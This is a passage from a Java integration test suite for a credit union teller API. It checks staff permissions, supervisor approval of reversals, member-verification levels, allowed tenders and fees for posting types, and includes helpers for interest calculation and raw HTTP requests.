            assertEquals("FORBIDDEN", reply.code());
        }
        // a rep's reversal is only a request: it waits for a supervisor, nothing posts
        for (Api staff : List.of(teller.rep1, teller.rep2)) {
            Api.Reply reply = teller.reverse(staff, id, "MEMBER_REQUEST", null);
            assertEquals(202, reply.status(), reply.toString());
            assertEquals("REVERSAL", reply.json().getJsonObject("approval").getString("kind"));
        }
        assertEquals(401, teller.reverse(teller.anonymous, id, "MEMBER_REQUEST", null).status());
        assertEquals(entries, teller.entries(), "not reversed");
        assertFalse(teller.super1.get("api/transactions/" + id).json().containsKey("reversedBy"));

        assertEquals(403, teller.rep1.get("api/ledger/invariants").status(), "a rep does not run the invariant check");
        // a rep reads an account's history only in their verified call for its member
        assertEquals(200, teller.rep1.get("api/accounts/" + draft + "/history").status(), "in rep1's call for the member");
        teller.calls.endCall(teller.rep1);
        Api.Reply noCall = teller.rep1.get("api/accounts/" + draft + "/history");
        assertEquals(403, noCall.status(), noCall.toString());
        assertEquals("VERIFICATION_REQUIRED", noCall.code());
        assertEquals(404, teller.rep2.get("api/transactions/" + id).status(), "a rep sees only the entries they posted");
        assertEquals(403, teller.rep1.post("api/business-date/advance", "").status(), "only ADMIN opens a business day");
        assertEquals(403, teller.super1.post("api/business-date/advance", "").status());
    }

    // =================================================================== posting types

    @Test
    @Order(70)
    void the_posting_types_answer_is_what_posting_enforces() {
        Api.Reply reply = teller.rep1.get("api/posting-types");
        assertEquals(200, reply.status(), reply.toString());
        Map<String, JsonObject> types = new java.util.LinkedHashMap<>();
        reply.json().getJsonArray("postingTypes").getValuesAs(JsonObject.class).forEach(type -> types.put(type.getString("type"), type));
        assertEquals(List.of("DEPOSIT", "WITHDRAWAL", "TRANSFER", "LOAN_PAYMENT", "OFFICIAL_CHECK"), List.copyOf(types.keySet()));
        assertEquals(200, teller.audit1.get("api/posting-types").status());
        assertEquals(401, teller.anonymous.get("api/posting-types").status());

        JsonObject member = teller.claimActiveMember("posting types", "20.00");
        String number = member.getString("memberNumber");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        String otherMembers = numberOf(teller.claimActiveMember("posting types, the other member", "0.00"), "SHARE", "ACTIVE");
        String basicCall = teller.calls.verifiedCall(teller.rep1, number, "BASIC");
        int entries = teller.entries();

        // a withdrawal: the level the answer gives is the level the gate asks for in a BASIC call
        JsonObject withdrawal = types.get("WITHDRAWAL");
        JsonObject byCheck = withdrawal.getJsonArray("tenders").getJsonObject(0);
        assertEquals(List.of("fromAccount"), strings(byCheck, "fields"));
        Api.Reply tooWeak = teller.post(teller.rep1, request("WITHDRAWAL").add("sessionId", basicCall)
                .add("tender", byCheck.getString("tender")).add("fromAccount", draft).add("amount", "5.00"));
        assertEquals(403, tooWeak.status(), tooWeak.toString());
        assertEquals("VERIFICATION_REQUIRED", tooWeak.code());
        assertEquals(withdrawal.getString("verification"), tooWeak.json().getString("levelRequired"));

        // a transfer: BASIC between the member's own accounts, the other level into another member's
        JsonObject transfer = types.get("TRANSFER");
        assertEquals("BASIC", transfer.getString("verification"));
        assertFalse(transfer.getBoolean("tenderRequired"));
        JsonObjectBuilder toOther = request("TRANSFER").add("sessionId", basicCall).add("fromAccount", draft)
                .add("toAccount", otherMembers).add("amount", "5.00");
        Api.Reply toAnother = teller.post(teller.rep1, toOther);
        assertEquals(403, toAnother.status(), toAnother.toString());
        assertEquals(transfer.getString("verificationToAnotherMember"), toAnother.json().getString("levelRequired"));
        assertEquals(entries, teller.entries());

        // a deposit: the fields and tenders the answer gives post in a BASIC call; a tender it does not list is refused
        JsonObject deposit = types.get("DEPOSIT");
        assertEquals("BASIC", deposit.getString("verification"));
        assertTrue(deposit.isNull("verificationToAnotherMember"), deposit.toString());
        JsonObject usual = deposit.getJsonArray("tenders").getJsonObject(0);
        assertFalse(usual.getBoolean("visitOnly"));
        assertEquals(List.of("toAccount"), strings(usual, "fields"));
        teller.posted(teller.rep1, request("DEPOSIT").add("sessionId", basicCall).add("tender", usual.getString("tender"))
                .add("toAccount", draft).add("amount", "5.00"));
        assertTrue(deposit.getJsonArray("tenders").getValuesAs(JsonObject.class).stream()
                .noneMatch(tender -> tender.getString("tender").equals("ACCOUNT")), deposit.toString());
        Api.Reply wrongTender = teller.post(teller.rep1, request("DEPOSIT").add("sessionId", basicCall).add("tender", "ACCOUNT")
                .add("toAccount", draft).add("amount", "5.00"));
        assertEquals(400, wrongTender.status(), wrongTender.toString());
        assertEquals("TENDER_NOT_ALLOWED", wrongTender.code());

        // an official check: the fee the answer gives is the fee charged
        JsonObject moneyOrder = types.get("OFFICIAL_CHECK").getJsonArray("instruments").getValuesAs(JsonObject.class).stream()
                .filter(instrument -> instrument.getString("instrument").equals("MONEY_ORDER")).findFirst().orElseThrow();
        Api.Reply wrongFee = teller.post(teller.rep1, request("OFFICIAL_CHECK").add("tender", "ACCOUNT").add("fromAccount", draft)
                .add("instrument", "MONEY_ORDER").add("fee", "0.01").add("amount", "5.00"));
        assertEquals("FEE_MISMATCH", wrongFee.code(), wrongFee.toString());
        assertEquals(moneyOrder.getString("fee"), wrongFee.json().getString("scheduledFee"));
        teller.calls.endCall(teller.rep1);
    }

    private static List<String> strings(JsonObject object, String field) {
        return object.getJsonArray(field).getValuesAs(jakarta.json.JsonString.class).stream().map(jakarta.json.JsonString::getString).toList();
    }

    // =================================================================== helpers

    /** principal × rate × days / 365, half-up to the cent: the loan's simple daily interest, actual/365. */
    private static BigDecimal interest(String principal, BigDecimal rate, long days) {
        return new BigDecimal(principal).multiply(rate).multiply(BigDecimal.valueOf(days))
                .divide(DAYS_IN_YEAR, 2, RoundingMode.HALF_UP);
    }

    private static JsonObject allocation(BigDecimal interest, BigDecimal principal, BigDecimal lateFees, LocalDate paidTo) {
        return Json.createObjectBuilder()
                .add("interest", cents(interest.setScale(2)))
                .add("principal", cents(principal.setScale(2)))
                .add("lateFees", cents(lateFees.setScale(2)))
                .add("interestPaidTo", paidTo.toString())
                .build();
    }

    private JsonObject payoff(String loan, LocalDate asOf) {
        teller.calls.verifiedCall(teller.rep1, loan.substring(0, loan.indexOf('-')), "BASIC");
        Api.Reply reply = teller.rep1.get("api/accounts/" + loan + "/payoff?asOf=" + asOf);
        assertEquals(200, reply.status(), reply.toString());
        assertEquals(asOf.toString(), reply.json().getString("asOf"));
        return reply.json();
    }

    private static JsonObject with(JsonObject body, String field, JsonValue value) {
        return Json.createObjectBuilder(body).add(field, value).build();
    }

    private static JsonObject without(JsonObject body, String field) {
        return Json.createObjectBuilder(body).remove(field).build();
    }

    private static Bad bad(String what, JsonObject body, int status, String code) {
        return new Bad(what, "application/json", Teller.newKey(), body.toString(), status, code);
    }

    private Api.Reply send(Bad row, String session) {
        Api rep = teller.rep1;
        if (!"application/json".equals(row.contentType())) {
            return sendRaw(row.contentType(), row.key(), HttpRequest.BodyPublishers.ofString(row.body()));
        }
        String body = withSession(row.body(), session);
        if (row.key() == null) {
            return rep.post("api/transactions", body);
        }
        return rep.post("api/transactions", body, Map.of("Idempotency-Key", row.key()));
    }

    /** A JSON object body with the sessionId added unless it has one; anything else as it is. */
    private static String withSession(String body, String session) {
        try (var reader = Json.createReader(new java.io.StringReader(body))) {
            JsonObject json = reader.readObject();
            return json.containsKey("sessionId") || json.isEmpty() ? body : Teller.withSessionId(body, session);
        } catch (RuntimeException notAnObject) {
            return body;
        }
    }

    private Api.Reply sendChunked(String body) {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        return sendRaw("application/json", Teller.newKey(),
                HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes)));
    }

    private Api.Reply sendRaw(String contentType, String key, HttpRequest.BodyPublisher body) {
        HttpRequest.Builder request = HttpRequest.newBuilder(teller.rep1.base().resolve("api/transactions"))
                .timeout(Duration.ofSeconds(60))
                .header("Content-Type", contentType)
                .header("Accept", "application/json, application/problem+json")
                .header("Authorization", "Bearer " + teller.rep1.token())
                .POST(body);
        if (key != null) {
            request.header("Idempotency-Key", key);
        }
        try {
            HttpResponse<String> response = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                    .connectTimeout(Duration.ofSeconds(10)).build()
                    .send(request.build(), HttpResponse.BodyHandlers.ofString());
            Map<String, String> headers = new java.util.LinkedHashMap<>();
            response.headers().map().forEach((name, values) -> headers.put(name.toLowerCase(), String.join(",", values)));
            return new Api.Reply(response.statusCode(), headers, response.body());
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }
}
